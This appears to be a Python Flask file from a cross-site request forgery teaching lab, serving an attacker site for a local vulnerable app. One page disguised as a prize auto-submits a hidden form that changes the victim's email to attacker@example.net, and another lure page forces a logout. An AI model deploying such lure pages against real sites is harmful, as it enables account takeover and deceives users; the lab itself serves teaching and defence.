from flask import Flask

# The attacker's site. Run it next to vulnerable.py (on 127.0.0.1:5000) with
# `flask --app attacker run --port 5001` and open it as http://localhost:5001:
# another host name, so another site, although it is the same machine.
app = Flask(__name__)
TARGET = "http://127.0.0.1:5000"

PRIZE_PAGE = f"""<!doctype html>
<title>You won!</title>
<p>Collecting your prize...</p>
<form method="post" action="{TARGET}/email">
  <input type="hidden" name="email" value="attacker@example.net">
</form>
<script>document.forms[0].submit()</script>"""

BYE_PAGE = f"""<!doctype html>
<title>Funny cats</title>
<script>location = "{TARGET}/logout"</script>"""


@app.route("/")
def prize():
    # A cross-site form POST, sent the moment the page loads.
    return PRIZE_PAGE


@app.route("/bye")
def bye():
    # A top-level GET to another site: SameSite=Lax cookies go with it.
    return BYE_PAGE
